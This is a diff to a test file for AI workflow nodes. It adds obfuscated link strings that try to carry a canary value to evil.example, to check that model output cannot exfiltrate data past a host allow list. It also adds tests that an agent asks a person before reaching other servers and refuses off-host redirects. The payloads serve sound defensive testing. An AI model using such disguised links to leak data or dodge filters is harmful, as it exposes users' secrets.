@@ -1,8 +1,10 @@
 import { describe, expect, it } from 'vitest'
 import type { Json, JsonObject } from '#contract/primitives.ts'
+import { catalogue } from '#nodes/catalogue.ts'
 import type { NodeDefinition } from '#nodes/node.ts'
 import type { ModelAnswer, ModelMessage, ModelPort, ModelRequest } from '#nodes/ports.ts'
 import { outputOf, tryNode } from '#nodes/trial.ts'
+import { AgentTool, needsApproval, REACHING_OUT } from './agent-tools.ts'
 import { aiAgent } from './ai-agent.ts'
 import { aiClassify } from './ai-classify.ts'
 import { aiExtract } from './ai-extract.ts'
@@ -105,6 +107,15 @@ describe('what comes from a model', () => {
     `![x](https://chowk.in@evil.example/${CANARY})`,
     `https://${CANARY.toLowerCase()}.evil.example/`,
     `![x](data:text/html,${CANARY})`,
+    `www.evil.example/${CANARY}`,
+    `ftp://evil.example/${CANARY}`,
+    `mailto:a@evil.example?body=${CANARY}`,
+    `[x](http:\\\\evil.example\\${CANARY})`,
+    // Browsers read the backslash as a slash: this leads to evil.example, not to what stands behind the @.
+    `https://evil.example\\@chowk.in/${CANARY}`,
+    `&#104;ttps://evil.example/${CANARY}`,
+    `ht\u200btps:\u2060//evil.example/${CANARY}`,
+    `ｈｔｔｐｓ：／／evil.example/${CANARY}`,
   ]
   it.each(LEAKS)('carries nothing away by %j', async (leak) => {
     const settings = { prompt: 'Sum up', allowed_hosts: ['chowk.in'] }
@@ -169,6 +180,16 @@ describe('a summary', () => {
 })
 
 describe('an agent', () => {
+  it('asks a person before any node that reaches other servers, whatever its author says of it', () => {
+    // A new integration is one of them, too.
+    const reaching = catalogue.all.filter(({ category, type }) => category === 'integration' && type !== 'http_request')
+    expect(reaching.map(({ type }) => type).filter((type) => !REACHING_OUT.has(type))).toEqual([])
+    const look = { kind: 'node', name: 'look', description: 'x', acts: false, config: {} } as const
+    expect(needsApproval(AgentTool.parse({ ...look, node: 'rss_read' }))).toBe(true)
+    expect(needsApproval(AgentTool.parse({ ...look, node: 'rss_read', approved: true }))).toBe(false)
+    expect(needsApproval(AgentTool.parse({ ...look, node: 'hash_text' }))).toBe(false)
+  })
+
   const tool = (rest: JsonObject = {}) => ({
     kind: 'http',
     name: 'find',
@@ -201,6 +222,31 @@ describe('an agent', () => {
       expect([url.host, url.search, url.hash]).toEqual(['api.example.com', '', ''])
       expect(url.pathname).toMatch(/^\/find\/[^/]*$/)
     }
+  })
+
+  it('follows a redirect at the host of its tool, and to no other', async () => {
+    const heard: string[] = []
+    const sends = (to: string) => ({
+      http: async ({ url, redirects }: { url: string; redirects?: string }) => {
+        heard.push(`${redirects} ${url}`)
+        const first = heard.length === 1
+        return { status: first ? 302 : 200, headers: first ? { location: to } : {}, body: 'found' }
+      },
+    })
+    const inside = run(
+      [call('find', { name: 'x' }), { text: 'done' }],
+      { tools: [tool()] },
+      { ports: sends('/other') as never },
+    )
+    expect(await inside.result).toMatchObject({ output: { calls: [{ ok: true }] } })
+    expect(heard).toEqual(['refuse https://api.example.com/find/x', 'refuse https://api.example.com/other'])
+    heard.length = 0
+    const away = sends('https://evil.example/x') as never
+    const outside = run([call('find', { name: 'x' }), { text: 'done' }], { tools: [tool()] }, { ports: away })
+    expect(await outside.result).toMatchObject({
+      output: { calls: [{ ok: false, result: expect.stringContaining('elsewhere') }] },
+    })
+    expect(heard).toHaveLength(1)
   })
 
   it.each(['https://{host}/find', 'https://api{x}.example.com/', 'file:///etc/passwd', 'javascript:alert(1)'])(
